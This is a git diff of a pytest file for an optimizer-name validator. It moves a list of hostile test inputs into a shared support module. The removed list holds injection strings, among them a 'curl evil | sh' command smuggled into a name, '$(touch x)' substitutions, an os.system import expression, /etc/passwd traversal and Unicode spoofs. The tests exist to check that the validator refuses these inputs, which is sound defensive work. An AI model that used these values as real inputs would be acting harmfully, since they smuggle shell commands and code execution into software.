@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 import torch
 
-from tests.support.libraries import Library, marking
+from tests.support.libraries import HOSTILE_NAMES, Library, marking
 from wan_core.errors import ConfigError, DependencyError
 from wan_core.packages import OPTIMIZER_MODULES, check_place, named_optimizer, version_of
 from wan_core.train import TrainConfig, check_optimizer, held_bytes, saved_bytes, state_bytes
@@ -44,30 +44,7 @@ def test_a_name_is_one_of_a_package_and_a_class(path: str, found: tuple[str, str
     assert named_optimizer(path) == found
 
 
-HOSTILE = (
-    *("input.evil.X", "temp.evil.X", "output.evil.X", "user.evil.X", "models.evil.X", "custom_nodes.evil.X", "evil"),
-    *("certifi.__main__.X", "numpy.f2py.__main__.X", "torch.utils.model_dump.__main__.X", "main.X", "nodes.X"),
-    *("server.PromptServer", "execution.PromptExecutor", "folder_paths.base_path", "comfy.cli_args.args"),
-    *("os.system", "builtins.exit", "builtins.eval", "sys.exit", "subprocess.Popen", "__main__.X", "this.X"),
-    *("antigravity.X", "posix._exit", "ctypes.CDLL", "runpy.run_path", "torch.hub.load", "torch.load", "torch.X"),
-    *("torch.optimize.X", "torch.optim", "torch.optim.", "torch..optim.SGD", ".torch.optim.SGD", "torch.optim.SGD."),
-    *("pytorch_optimizer", "pytorch_optimizer.", "pytorch_optimizer.../../x", "pytorch_optimizer./etc/passwd.X"),
-    *("pytorch_optimizer.Adan()", "pytorch_optimizer.Adan\n", "pytorch_optimizer.Adan\0", "pytorch_optimizer. Adan"),
-    *(" pytorch_optimizer.Adan", "pytorch_optimizerx.Adan", "PYTORCH_OPTIMIZER.Adan", "pytorch_optimizer:Adan"),
-    *(
-        "pytorch_optimizer.\u0410dan",
-        "pytorch_\uff4fptimizer.Adan",
-        "p\u0443torch_optimizer.Adan",
-        "\u202etorch.optim.SGD",
-    ),
-    *("pytorch_optimizer.a-b.X", "torchao.X", "torchao.prototype.X", "bitsandbytes.nn.X", "bitsandbytes.X"),
-    *('a" ; curl evil | sh ; "b.X', "$(touch x).X", "`touch x`.X", "-e.X", "--index-url=http://x.X", "a&&b.X"),
-    *("torch.optim." + "X" * 1_000_000, "x." * 500_000 + "X", "." * 1000, "torch.optim.1", "torch.optim.None.X."),
-    *("lambda:0", "__import__('os').system('x')", "{0.__class__}", "%s.%s", "../../input/evil.X", "C:\\evil.X"),
-)
-
-
-@pytest.mark.parametrize("path", HOSTILE, ids=range(len(HOSTILE)))
+@pytest.mark.parametrize("path", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
 def test_any_other_name_is_refused_by_its_text(
     path: str, tmp_path: Path, elsewhere: Library, monkeypatch: pytest.MonkeyPatch
 ) -> None:
